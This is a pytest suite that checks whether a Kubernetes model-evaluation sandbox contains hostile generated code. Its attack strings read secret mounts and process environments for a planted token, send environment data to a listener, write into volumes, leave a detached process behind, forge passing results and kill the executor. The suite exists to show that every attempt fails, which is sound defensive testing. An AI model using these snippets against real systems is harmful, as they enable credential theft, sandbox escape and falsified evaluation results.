"""The escape suite: generated code is hostile, and a run's own evaluation tasks attack from where
completions run (their ``test`` code executes in the same program). Run as the pod runs it, on the
embedded cluster, with a Hub token Secret planted on the run, every attempt must fail.

Each attack task's test ends with exit 0 only if its attack worked; anything stopping it (no file,
no credential, a read-only mount, the audit hook, a refused connection) raises, so the sample fails.
The honest tasks' tests pass whatever the model wrote. So: the attack samples fail, the honest ones
pass, pass@1 is exactly the honest share, and the token appears nowhere a program could send it.

The network attacks aim at real addresses: the apiserver (directly and through its Service), a
listener on the host's underlay address, the operator pod. They are refused twice over: by the
sample's audit hook, and by the run's deny-all NetworkPolicy, which the cluster's policy agent
enforces (``test_the_sandbox_network_policy_denies_all`` checks it with no hook in the way).
"""

from __future__ import annotations

import json
import secrets
from pathlib import Path

import pytest
from e2e_support import condition, events_for, get, sample_data, status_of, tiny_run, wait, wait_phase
from netprobe import HostListener, probe

from localcluster.procs import pids_with

pytestmark = pytest.mark.cluster
INSTALL = "helm"
NAMESPACE_SCOPE = "module"
TOKEN = "hf_" + secrets.token_hex(16)
MARKER = "codex-escape-" + secrets.token_hex(6)
NAMESPACE_OBJECTS = [*sample_data(), {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "hub-token"},
                                      "stringData": {"token": TOKEN}}]
# The completion (one token: evaluation.maxNewTokens is 1) lands in this comment, or as the start of an
# empty next line, so that every program parses whatever the model wrote and the test code after it runs.
PROMPT = "def escape():\n    return 1\n\n\n# "
HONEST = ["honest-1", "honest-2"]


def attacks(ways: dict[str, tuple[str, int]], pv_dirs: list[str]) -> dict[str, str]:
    """Each attack, as a task's test code: it returns normally only if the attack worked. ``ways`` are
    the (address, port) of what a program would reach out to."""
    return {
        "read-secrets": (
            "import os\nfound = []\nfor top in ('/var/run/secrets', '/run/secrets', '/etc/codex'):\n"
            "    for d, _, files in os.walk(top):\n        for f in files:\n"
            "            found.append(open(os.path.join(d, f)).read())\nassert found\n"),
        "read-environ": (
            "import os\nleaked = []\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n"
            "        try:\n            leaked.append(open(f'/proc/{pid}/environ', 'rb').read())\n"
            "        except OSError:\n            pass\n"
            f"assert any(b'HF_TOKEN' in e or {TOKEN.encode()!r} in e for e in leaked)\n"),
        "connect-apiserver": f"import socket\nsocket.create_connection({ways['apiserver']!r}, 2)\n",
        "connect-apiserver-service": f"import socket\nsocket.create_connection({ways['apiserver-service']!r}, 2)\n",
        "connect-host-listener": (
            f"import socket\ns = socket.create_connection({ways['listener']!r}, 2)\n"
            "s.sendall(open('/proc/self/environ', 'rb').read())\n"),
        "connect-operator-pod": f"import socket\nsocket.create_connection({ways['operator']!r}, 2)\n",
        "resolve-a-name": "import socket\nsocket.getaddrinfo('kubernetes.default.svc', 443)\n",
        "write-output-pvc": (
            f"import os\ntargets = ['/var/run/codex/data/pvc/codex-artifacts', '/var/run/codex/work', *{pv_dirs!r}]\n"
            "written = []\nfor d in targets:\n    try:\n"
            f"        open(os.path.join(d, '{MARKER}'), 'w').write('owned')\n        written.append(d)\n"
            "    except OSError:\n        pass\nassert written\n"),
        "setsid-child": (
            "import os, time\npid = os.fork()\nif pid == 0:\n    os.setsid()\n    time.sleep(20)\n"
            f"    open('/tmp/{MARKER}', 'w').write('still here')\n    os._exit(0)\n"),
        "forge-results": (
            "import json, sys\n"
            "open('/dev/termination-log', 'w').write(json.dumps({'stage': 'sandbox', 'samples': 0, 'results': ''}))\n"
            "for i in range(64):\n    print(json.dumps({'index': i, 'status': 'passed', 'returncode': 0,"
            " 'elapsed': 0.0}))\nsys.stdout.flush()\nraise SystemExit(1)\n"),
        "kill-the-executor": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
        "switch-off-the-hook": "import os\nassert os.system('true') == 0\n",
    }


def tasks_jsonl(ways: dict[str, tuple[str, int]], pv_dirs: list[str]) -> str:
    check = "\n\ndef check(candidate):\n    pass\n"
    tests = {**{name: "pass\n" for name in HONEST}, **attacks(ways, pv_dirs)}
    return "".join(json.dumps({"task_id": name, "prompt": PROMPT, "entry_point": "escape",
                               "test": code + check}) + "\n" for name, code in tests.items())


def _pv_dir(cluster, namespace: str, claim: str) -> str:
    bound = wait(f"pvc/{claim} bound", lambda: (lambda p: p if (p.get("status") or {}).get("phase") == "Bound"
                                                else None)(get(cluster, "pvc", claim, namespace)), 60)
    return cluster.get_json("pv", bound["spec"]["volumeName"])["spec"]["hostPath"]["path"]


def _ways_out(cluster, operator, listener) -> dict[str, tuple[str, int]]:
    """Where a program would reach out to: the apiserver (directly and through its Service), the host
    listener, and the operator pod's metrics port (its address, and the port the Helm policy opens)."""
    pod = next(p for p in operator.pods() if p["status"].get("phase") == "Running")
    metrics = next(port["containerPort"] for c in pod["spec"]["containers"] for port in c.get("ports") or ())
    host, port = cluster.server.rsplit("//", 1)[1].rsplit(":", 1)
    return {"apiserver": (host, int(port)), "apiserver-service": (cluster.network.apiserver_service_ip, 443),
            "listener": (listener.address, listener.port), "operator": (pod["status"]["podIP"], metrics)}


@pytest.fixture(scope="module")
def escaped(cluster, module_namespace, operator):
    """The run, finished: (its status, the listener, the artifacts PV's host directory)."""
    listener = HostListener(cluster.network.api_host)
    artifacts = _pv_dir(cluster, module_namespace, "codex-artifacts")
    pv_dirs = [str(p) for p in Path(artifacts).parent.iterdir()]  # every PV's directory on the host
    cluster.apply({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "escape-tasks"},
                   "data": {"tasks.jsonl": tasks_jsonl(_ways_out(cluster, operator, listener), pv_dirs)}},
                  namespace=module_namespace)
    run = tiny_run("escape", steps=2, save_steps=2)
    run["spec"]["baseModel"]["tokenSecretRef"] = {"name": "hub-token", "key": "token"}
    run["spec"]["evaluation"]["tasks"] = {"configMap": {"name": "escape-tasks", "key": "tasks.jsonl"}}
    run["spec"]["evaluation"].update(timeoutSeconds=3, maxNewTokens=1)
    cluster.apply(run, namespace=module_namespace)
    status = wait_phase(cluster, module_namespace, "escape", ("Succeeded", "Failed"), timeout=600)
    yield status, listener, Path(artifacts)
    listener.server.close()


def test_every_escape_fails_and_the_gates_count_only_the_honest_samples(cluster, namespace, escaped):
    status, _, artifacts = escaped
    assert status["phase"] == "Succeeded", status.get("message")
    assert [(s["name"], s["phase"]) for s in status["stages"]] == [
        ("train", "Succeeded"), ("sandbox", "Succeeded"), ("publish", "Succeeded")]
    results = json.loads((artifacts / "escape" / "results.json").read_text())
    outcome = {row["task_id"]: row["status"] for row in results["samples"]}
    assert {t: outcome[t] for t in HONEST} == {t: "passed" for t in HONEST}
    assert {t: s for t, s in outcome.items() if t not in HONEST and s == "passed"} == {}
    total = len(outcome)
    assert status["metrics"]["passAtK"]["pass@1"] == pytest.approx(len(HONEST) / total, abs=1e-6)
    assert status["metrics"]["basePassAtK"]["pass@1"] == pytest.approx(len(HONEST) / total, abs=1e-6)


def test_the_token_reached_nothing_a_program_could_send_it_from(cluster, namespace, escaped, operator):
    _, listener, _ = escaped
    assert listener.received == []
    sandbox = get(cluster, "pod", _stage_pod(cluster, namespace, "sandbox"), namespace)
    spec = sandbox["spec"]
    assert spec["automountServiceAccountToken"] is False
    assert not any("secret" in v or "projected" in v for v in spec["volumes"])
    assert not any("valueFrom" in e for c in spec["containers"] for e in c.get("env") or ())
    logs = "".join(p.read_text(errors="replace") for p in (cluster.agent_dir / "pods").glob(f"{namespace}_*/logs/**/*")
                   if p.is_file())
    for place, text in {"pod logs": logs, "status": json.dumps(status_of(cluster, "cxrun", "escape", namespace)),
                        "events": json.dumps(events_for(cluster, namespace, "escape")),
                        "sandbox pod": json.dumps(sandbox), "operator logs": operator.logs()}.items():
        assert TOKEN not in text, place


def test_no_process_or_file_outlives_the_sandbox_stage(cluster, namespace, escaped):
    _, _, artifacts = escaped
    assert pids_with(MARKER) == []
    assert not list(artifacts.parent.glob(f"*/{MARKER}")) and not list(artifacts.parent.glob(f"*/*/{MARKER}"))
    pod = _stage_pod(cluster, namespace, "sandbox")
    uid = get(cluster, "pod", pod, namespace)["metadata"]["uid"]
    assert not list((cluster.agent_dir / "pods").glob(f"*_{uid}/volumes/**/{MARKER}"))


def test_the_sandbox_network_policy_denies_all(cluster, namespace, escaped, operator):
    """The operator's deny-all policy around a run's sandbox pods, enforced: a pod with the sandbox's
    labels reaches nothing (no pod, no Service, no DNS, not the host), while the same pod without the
    sandbox component label reaches all of it, the operator's metrics port included (the Helm
    chart's policy opens it)."""
    if not cluster.network.real:
        pytest.skip("the cluster runs on the loopback network: NetworkPolicy is not enforced there")
    _, listener, _ = escaped
    ways = _ways_out(cluster, operator, listener)
    targets = {name: ["tcp", *way] for name, way in ways.items()} | {"dns": ["dns", cluster.network.dns_ip, 53]}
    labels = get(cluster, "pod", _stage_pod(cluster, namespace, "sandbox"), namespace)["metadata"]["labels"]
    everything = {name: True for name in targets}
    unconfined = {k: v for k, v in labels.items() if k != "app.kubernetes.io/component"}
    assert probe(cluster, namespace, "unconfined-probe", unconfined, targets, everything) == {
        "seen": everything, "held": True}
    nothing = {name: False for name in targets}
    assert probe(cluster, namespace, "sandbox-probe", labels, targets, nothing) == {
        "seen": nothing, "held": True}


def _stage_pod(cluster, namespace: str, stage: str) -> str:
    pods = cluster.get_json("pods", "-n", namespace, "-l", f"app.kubernetes.io/component={stage},"
                            "codex.dev/training-run=escape")["items"]
    return pods[0]["metadata"]["name"]


def test_the_stages_hold_what_each_needs_only(cluster, namespace, escaped):
    train = get(cluster, "job", "escape-train", namespace)["spec"]["template"]["spec"]
    publish = get(cluster, "job", "escape-publish", namespace)["spec"]["template"]["spec"]
    output = next(m for m in train["containers"][0]["volumeMounts"] if m["name"] == "pvc-codex-artifacts")
    assert output["readOnly"] is True  # only publish writes what the run publishes
    assert any(m["name"] == "pvc-codex-artifacts" and not m.get("readOnly")
               for m in publish["containers"][0]["volumeMounts"])
    assert condition(status_of(cluster, "cxrun", "escape", namespace), "Ready")["status"] == "True"


# The attacks the pod itself must stop, with no executor and no audit hook in the way.
POD_BOUNDARY = ("read-secrets", "read-environ", "write-output-pvc")


def test_the_sandbox_pod_itself_holds_nothing_without_the_executor(cluster, namespace, escaped, operator):
    """The sandbox Job's own pod template, running the attacks directly (no executor, no audit hook):
    Kubernetes is the boundary, the in-process guard only a courtesy."""
    _, listener, artifacts = escaped
    chosen = {name: code for name, code in attacks(_ways_out(cluster, operator, listener),
                                                   [str(p) for p in artifacts.parent.iterdir()]).items()
              if name in POD_BOUNDARY}
    script = ("import json\nworked = {}\n"
              f"for name, code in {chosen!r}.items():\n"
              "    try:\n        exec(code, {})\n        worked[name] = True\n"
              "    except BaseException:\n        worked[name] = False\n"
              "open('/dev/termination-log', 'w').write(json.dumps(worked))\n")
    template = get(cluster, "job", "escape-sandbox", namespace)["spec"]["template"]
    spec = template["spec"]
    spec["containers"][0].update(command=["python", "-c", script], args=[])
    labels = {k: v for k, v in template["metadata"]["labels"].items() if k != "app.kubernetes.io/component"}
    cluster.apply({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "bare-sandbox", "labels": labels},
                   "spec": spec}, namespace=namespace)
    ended = wait("the bare sandbox pod to end", lambda: (lambda p: p if p["status"].get("phase") in (
        "Succeeded", "Failed") else None)(get(cluster, "pod", "bare-sandbox", namespace)), 90)
    terminated = ended["status"]["containerStatuses"][0]["state"]["terminated"]
    assert terminated["exitCode"] == 0, terminated
    assert json.loads(terminated["message"]) == {name: False for name in POD_BOUNDARY}
    assert not list(artifacts.parent.glob(f"*/{MARKER}"))


def test_a_sandbox_job_deleted_mid_way_runs_again_and_the_run_ends_well(cluster, namespace, escaped):
    """The sandbox stage's Job deleted while its programs run: the operator creates it again, and the
    run ends as it would have (the hand-off on the work volume is still there)."""
    slow = "import time\ntime.sleep(8)\n\n\ndef check(candidate):\n    pass\n"
    cluster.apply({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "slow-tasks"}, "data": {
        "tasks.jsonl": json.dumps({"task_id": "slow", "prompt": PROMPT, "entry_point": "escape", "test": slow})}},
        namespace=namespace)
    run = tiny_run("slow-sandbox", steps=2, save_steps=2)
    run["spec"]["evaluation"].update(tasks={"configMap": {"name": "slow-tasks", "key": "tasks.jsonl"}},
                                     timeoutSeconds=30, maxNewTokens=1)
    cluster.apply(run, namespace=namespace)

    def sandbox_running():
        stages = status_of(cluster, "cxrun", "slow-sandbox", namespace).get("stages") or []
        return len(stages) == 3 and stages[1]["phase"] == "Running"
    wait("the sandbox stage to run", sandbox_running, 300)
    first = get(cluster, "job", "slow-sandbox-sandbox", namespace)["metadata"]["uid"]
    cluster.kubectl("delete", "job", "slow-sandbox-sandbox", "-n", namespace, "--wait=false")
    status = wait_phase(cluster, namespace, "slow-sandbox", ("Succeeded", "Failed"), timeout=300)
    assert status["phase"] == "Succeeded", status.get("message")
    assert get(cluster, "job", "slow-sandbox-sandbox", namespace)["metadata"]["uid"] != first
    assert status["metrics"]["passAtK"]["pass@1"] == 1.0
    assert [s["phase"] for s in status["stages"]] == ["Succeeded"] * 3
